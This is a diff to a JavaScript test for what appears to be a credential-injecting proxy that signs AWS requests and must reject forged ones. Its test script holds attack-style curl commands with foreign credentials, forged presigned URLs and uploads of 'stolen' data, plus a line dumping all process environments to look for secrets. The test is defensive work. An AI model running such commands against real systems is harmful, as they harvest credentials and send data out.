@@ -60,6 +60,11 @@ it('what is signed inside with placeholders arrives signed with the key; the key
      ${signed('sts')} https://bucket.thing.test/service; ${signed('s3', 'us-east-1')} https://bucket.thing.test/region
      curl -sS --aws-sigv4 aws:amz:eu-central-1:s3 --user AKIAATTACKERATTACKER:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa https://bucket.thing.test/foreign
      curl -sS -H 'Authorization: Bearer attackers-own-token' https://bucket.thing.test/bearer
+     curl -sS -X PUT --data-binary stolen 'https://bucket.thing.test/older?AWSAccessKeyId=AKIAATTACKERATTACKER&Expires=1&Signature=abc'
+     curl -sS -H 'X-Api-Key: attackers-own' https://bucket.thing.test/gateway
+     curl -sS -F key=x -F policy=abc -F x-amz-signature=abc -F file=stolen https://bucket.thing.test/form
+     curl -sS -d Action=AssumeRoleWithWebIdentity https://bucket.thing.test/identity
+     curl -sS https://bucket.thing.test/public
      env; cat /proc/*/environ | tr '\\0' '\\n'`,
     ['--policy', policy],
     { env: key },
@@ -68,7 +73,10 @@ it('what is signed inside with placeholders arrives signed with the key; the key
   expect(bucket.seen).toEqual([
     { method: 'GET', url: '/key', id: key.AWS_ACCESS_KEY_ID, valid: true },
     { method: 'PUT', url: '/other?acl=x', id: key.AWS_ACCESS_KEY_ID, valid: true },
+    { method: 'GET', url: '/public', id: '', valid: false },
   ])
+  expect(done.stdout.match(/\(foreign-credential\)/g)).toHaveLength(3)
+  expect(done.stdout.match(/\(aws-unsigned\)/g)).toHaveLength(2)
   for (const code of ['aws-service', 'aws-region', 'foreign-credential', 'bad-signature']) expect(done.stdout, code).toContain(`(${code})`)
   for (const value of Object.values(key)) expect(done.stdout + done.stderr).not.toContain(value)
   expect(done.stdout).toMatch(/AWS4-HMAC-SHA256 Credential=AKIA[A-Z2-7]{16}\//)
